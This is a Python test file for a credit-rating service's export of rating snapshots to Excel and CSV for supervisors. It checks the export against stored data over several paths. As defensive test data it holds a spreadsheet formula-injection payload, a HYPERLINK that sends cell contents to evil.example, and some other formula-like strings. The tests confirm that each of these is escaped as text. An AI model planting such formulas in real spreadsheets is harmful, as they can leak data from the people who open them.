"""Exports for supervisors: the workbook read back with openpyxl says what the snapshot says.

Checked against sources other than the export's own (the stored snapshot rows, the findings
table, the rules in force), on SQLite and PostgreSQL, in process, over HTTP with keys and as a
real `credit-rating export` process. A hostile name, reference and note stay text.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections import Counter
from datetime import date, timedelta, timezone
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import httpx
import openpyxl
import pytest
from sqlalchemy import Engine, select, update

from scoring.lift import lift
from scoring.shipped import load_rules
from service.core.clock import now
from service.core.database import reading, writing
from service.core.tables import findings, institutions
from service.ratings import exports, publishing, snapshots
from service.ratings.snapshots import Snapshot
from service.records import storage
from tests.conftest import Keys
from tests.servers import ROOT

YEAR = 2023
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
RENAMED = "52120111MJ0640226Q"
NOTED = "XQ-2023-0005"  # its note becomes "+1"
REVOKED = "XQ-2023-0001"  # revoked before rating: not counted, not in the export
VETOED = "52120111MJ0621734P"
VETO_FINDING = "XQ-2023-9001"
XLSX_NAME = "2023年度学科类校外培训机构信用评价结果-第1版.xlsx"


def prepare(engine: Engine) -> Snapshot:
    """The sample district with a formula for a name, a note and a reference that read as
    formulas, a revoked finding and a veto; 2023 computed and published."""
    with writing(engine) as conn:
        conn.execute(
            update(institutions).where(institutions.c.uscc == RENAMED).values(name=FORMULA_NAME)
        )
        conn.execute(update(findings).where(findings.c.finding_id == NOTED).values(note="+1"))
        conn.execute(
            findings.insert().values(
                finding_id=VETO_FINDING,
                uscc=VETOED,
                indicator="veto_education_policy",
                occurred_on=date(YEAR, 12, 1),
                count=1,
                source="penalty",
                reference="-西青教罚〔2023〕9号",
                status="active",
                note="@SUM(1+1) 违规开展学科类培训",
                recorded_at=now(),
                recorded_by="tests",
            )
        )
        storage.revoke(conn, finding_id=REVOKED, by="tests", reason="异议成立", at=now())
        publishing.compute_draft(conn, rules=load_rules(), year=YEAR, scale="four", by="tests")
        return publishing.publish(conn, year=YEAR, revision=None, reason=None, by="tests")


def read_book(data: bytes) -> dict[str, list[tuple[Any, ...]]]:
    """Every sheet's rows as values; fails on any cell a spreadsheet would run as a formula."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheets = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(exports.FORMULA_STARTS), cell.value
        sheets[sheet.title] = [tuple(r) for r in sheet.iter_rows(values_only=True)]
    return sheets


def safe(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


def check_workbook(data: bytes, engine: Engine, snap: Snapshot) -> None:
    """The workbook against the stored snapshot, the stored findings and the rules in force."""
    with reading(engine) as conn:
        rows = snapshots.rows_of(conn, snap)
        stored = [dict(r._mapping) for r in conn.execute(select(findings))]
    force = load_rules().in_force(YEAR, snap.scale)
    book = read_book(data)
    assert list(book) == ["概况", "指标得分", "扣分记录"]

    # Summary: the snapshot's header and grade counts (every band of the scale listed).
    summary = dict(book["概况"][1:])
    assert book["概况"][0] == ("项目", "内容")
    assert summary["评价年度"] == YEAR and summary["版本"] == snap.revision
    assert summary["状态"] == "已公示"
    assert summary["规则哈希"] == snap.rules_hash == force.content_hash
    assert summary["规则版本"] == snap.ruleset_version
    assert summary["内容哈希"] == snap.content_hash
    assert summary["输入摘要"] == snap.input_digest
    assert summary["链哈希"] == snap.chain_hash
    assert summary["等级划分"] == snap.scale
    assert snap.published_at is not None
    beijing = snap.published_at.astimezone(timezone(timedelta(hours=8)))
    assert summary["公示时间（北京时间）"] == beijing.strftime("%Y-%m-%d %H:%M")
    assert summary["机构总数"] == len(rows)
    grades = Counter(r["grade"] for r in rows)
    for band in force.bands:
        assert summary[f"等级 {band.grade}（{band.label}）"] == grades.get(band.grade, 0)
    assert sum(v for k, v in summary.items() if k.startswith("等级 ")) == len(rows)

    # Points: every institution, every indicator's points under "number title".
    header, *table = book["指标得分"]
    indicator_headers = {i.code: f"{i.rule.number} {i.rule.title}" for i in force.indicators}
    assert list(header) == [
        *exports.POINT_COLUMNS,
        *indicator_headers.values(),
        exports.LIFT_COLUMN,
    ]
    assert "12 按照合同约定进行退费" in header  # the annex's numbering, in Chinese
    assert len(table) == len(rows) == 16
    for n, (line, row) in enumerate(zip(table, rows, strict=True), start=1):
        cells = dict(zip(header, line, strict=True))
        lifted = lift(snapshots.explained(snap, row), force.bands)
        assert cells[exports.LIFT_COLUMN].startswith(safe(lifted.summary))  # what lifts it
        assert all(r.finding_ids[0] in cells[exports.LIFT_COLUMN] for r in lifted.revocations)
        assert cells["序号"] == n
        assert cells["统一社会信用代码"] == row["uscc"]
        assert cells["机构名称"] == safe(row["name"])
        assert cells["办学许可证号"] == row["licence_no"]
        assert (cells["得分"], cells["等级"]) == (row["score"], row["grade"])
        points = json.loads(row["points"])
        assert {code: cells[h] for code, h in indicator_headers.items()} == points
        assert sum(points.values()) == row["score"]
    names = {line[1]: line[2] for line in table}
    assert names[RENAMED] == "'" + FORMULA_NAME
    assert sum("培训学校" in name for name in names.values()) == 15  # Chinese intact
    vetoed = next(line for line in table if line[1] == VETOED)
    assert vetoed[5] == force.lowest_grade.grade and vetoed[7] != ""

    # Findings: exactly the active findings of the year, each with what it cost.
    header, *table = book["扣分记录"]
    assert header == exports.FINDING_COLUMNS
    by_id = {line[0]: dict(zip(header, line, strict=True)) for line in table}
    assert len(by_id) == len(table)
    counted = [f for f in stored if f["status"] == "active" and f["occurred_on"].year == YEAR]
    assert set(by_id) == {f["finding_id"] for f in counted}
    assert REVOKED not in by_id and NOTED in by_id and VETO_FINDING in by_id
    named = {r["uscc"]: r["name"] for r in rows}
    indicators = {i.code: i for i in force.indicators}
    vetoes = {v.code: v for v in force.vetoes}
    for f in counted:
        line = by_id[f["finding_id"]]
        assert line["统一社会信用代码"] == f["uscc"]
        assert line["机构名称"] == safe(named[f["uscc"]])
        assert line["发生日期"] == f["occurred_on"].isoformat()
        assert line["次数"] == f["count"]
        assert line["来源"] == f["source"]
        assert line["文号"] == safe(f["reference"])
        assert line["备注"] == safe(f["note"])
        if f["indicator"] in vetoes:
            assert line["指标"] == f"一票否决 {vetoes[f['indicator']].title}"
            assert line["扣分"] is None
            continue
        rule = indicators[f["indicator"]]
        assert line["指标"] == indicator_headers[f["indicator"]]
        if rule.deduction is not None:
            assert line["每次扣分"] == rule.deduction
            assert line["扣分"] == f["count"] * rule.deduction
        else:
            assert line["每次扣分"] is None and line["扣分"] == rule.points
        kept = json.loads(next(r for r in rows if r["uscc"] == f["uscc"])["points"])
        assert line["该项实扣"] == rule.points - kept[f["indicator"]] > 0
    assert by_id[NOTED]["备注"] == "'+1"
    assert by_id[VETO_FINDING]["文号"] == "'-西青教罚〔2023〕9号"
    assert by_id[VETO_FINDING]["备注"] == "'@SUM(1+1) 违规开展学科类培训"


def check_csv(data: bytes, expected: bytes) -> None:
    """A points CSV: BOM, CRLF, the workbook's points sheet cell for cell."""
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    lines = list(csv.reader(io.StringIO(text, newline="")))
    header, *points = read_book(expected)["指标得分"]
    assert lines[0] == list(header)
    assert lines[1:] == [["" if v is None else str(v) for v in line] for line in points]
    assert any(line[2] == "'" + FORMULA_NAME for line in lines)


# In process, on both databases ----------------------------------------------------------------


def test_the_workbook_says_what_the_snapshot_says(loaded: Engine) -> None:
    snap = prepare(loaded)
    with reading(loaded) as conn:
        made = exports.snapshot_export(conn, year=YEAR, rules=load_rules())
    assert made.snapshot == snap
    data = made.xlsx()
    check_workbook(data, loaded, snap)
    check_csv(made.csv(), data)
    assert made.filename("xlsx") == XLSX_NAME
    properties = openpyxl.load_workbook(io.BytesIO(data)).properties
    assert snap.published_at is not None
    assert properties.created.replace(microsecond=0) == snap.published_at.replace(
        tzinfo=None, microsecond=0
    )


def test_a_draft_revision_and_missing_years_and_revisions(loaded: Engine) -> None:
    from service.core.errors import NotFound

    with reading(loaded) as conn, pytest.raises(NotFound, match="no published"):
        exports.snapshot_export(conn, year=YEAR)
    prepare(loaded)
    with writing(loaded) as conn:
        draft = publishing.compute_draft(
            conn, rules=load_rules(), year=YEAR, scale="four", by="tests"
        )
    with reading(loaded) as conn:
        made = exports.snapshot_export(conn, year=YEAR, revision=draft.revision)
        assert exports.snapshot_export(conn, year=YEAR).snapshot.revision == 1
        with pytest.raises(NotFound, match="no revision 9 of 2023"):
            exports.snapshot_export(conn, year=YEAR, revision=9)
        with pytest.raises(NotFound, match="2024 has no published"):
            exports.snapshot_export(conn, year=2024)
    summary = dict(read_book(made.xlsx())["概况"][1:])
    assert summary["状态"] == "草稿（未公示）" and summary["版本"] == 2
    assert summary["公示时间（北京时间）"] is None  # an empty cell
    # Without the rules, only the grades some institution got are listed.
    given = {k: v for k, v in summary.items() if k.startswith("等级 ")}
    assert given and all(v > 0 for v in given.values())
    assert sum(given.values()) == summary["机构总数"] == 16


# Over HTTP: a real server, real keys ------------------------------------------------------------


def test_the_export_endpoint_for_supervisors_and_analysts(
    service: str, loaded: Engine, api_keys: Keys
) -> None:
    snap = prepare(loaded)
    url = f"{service}/v1/ratings/{YEAR}/export.xlsx"
    with httpx.Client(timeout=60) as http:
        assert http.get(url).status_code == 401
        assert http.get(url, headers={"X-API-Key": "cr_nobody"}).status_code == 401
        assert http.get(url, headers=api_keys.header("sharing")).status_code == 403
        for role in ("analyst", "supervisor"):
            answer = http.get(url, headers=api_keys.header(role))
            assert answer.status_code == 200, answer.text
            assert answer.headers["content-type"] == exports.XLSX_TYPE
            disposition = answer.headers["content-disposition"]
            assert disposition.startswith('attachment; filename="credit-rating-2023-r1.xlsx"')
            assert unquote(disposition.split("filename*=UTF-8''")[1]) == XLSX_NAME
            assert disposition.isascii()
            check_workbook(answer.content, loaded, snap)
        missing = http.get(url, params={"revision": 9}, headers=api_keys.header("analyst"))
        assert missing.status_code == 404
        assert missing.headers["content-type"].startswith("application/problem+json")
        unpublished = f"{service}/v1/ratings/2024/export.xlsx"
        assert http.get(unpublished, headers=api_keys.header("analyst")).status_code == 404
        bad = http.get(url, params={"revision": 0}, headers=api_keys.header("analyst"))
        assert bad.status_code == 422
        # The route before `/ratings/{year}/{uscc}` leaves that one as it was.
        one = http.get(f"{service}/v1/ratings/{YEAR}/{RENAMED}")
        assert one.status_code == 200 and one.json()["rating"]["name"] == FORMULA_NAME
        assert (
            "/v1/ratings/{year}/export.xlsx" in http.get(f"{service}/openapi.json").json()["paths"]
        )


# As a real process ----------------------------------------------------------------------------


def export_process(database_url: str, *args: str, cwd: Path) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "service.cli", "export", *args],
        cwd=cwd,
        capture_output=True,
        env={
            **os.environ,
            "PYTHONPATH": str(ROOT),
            "CREDIT_DATABASE_URL": database_url,
            "CREDIT_LANG": "en",
        },
    )


def test_the_export_command_writes_the_workbook_and_the_csv(
    database_url: str, loaded: Engine, tmp_path: Path
) -> None:
    snap = prepare(loaded)
    tmp_path = tmp_path / "out"  # apart from the SQLite database the fixture keeps here
    tmp_path.mkdir()
    done = export_process(database_url, "--year", "2023", cwd=tmp_path)
    assert done.returncode == 0, done.stderr.decode()
    written = tmp_path / XLSX_NAME
    assert written.is_file() and XLSX_NAME in done.stdout.decode()
    check_workbook(written.read_bytes(), loaded, snap)
    assert [p.name for p in tmp_path.iterdir()] == [XLSX_NAME]  # no partial file left

    piped = export_process(
        database_url, "--year", "2023", "--format", "csv", "--out", "-", cwd=tmp_path
    )
    assert piped.returncode == 0, piped.stderr.decode()
    check_csv(piped.stdout, written.read_bytes())
    named = tmp_path / "points.csv"
    to_file = export_process(
        database_url,
        "--year",
        "2023",
        "--revision",
        "1",
        "--format",
        "csv",
        "--out",
        str(named),
        cwd=tmp_path,
    )
    assert to_file.returncode == 0, to_file.stderr.decode()
    assert named.read_bytes() == piped.stdout


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (("--year", "2024"), "2024"),
        (("--year", "2023", "--revision", "7"), "7"),
        (("--year", "2023", "--out", "/nonexistent/dir/x.xlsx"), "/nonexistent/dir/x.xlsx"),
    ],
)
def test_the_export_command_fails_with_a_message(
    args: tuple[str, ...], said: str, database_url: str, loaded: Engine, tmp_path: Path
) -> None:
    if said != "2024":
        prepare(loaded)
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    done = export_process(database_url, *args, cwd=tmp_path)
    assert done.returncode == 1 and done.stdout == b""
    message = done.stderr.decode()
    assert message.startswith("error:") and said in message, message
    assert "Traceback" not in message
    assert list(tmp_path.iterdir()) == []
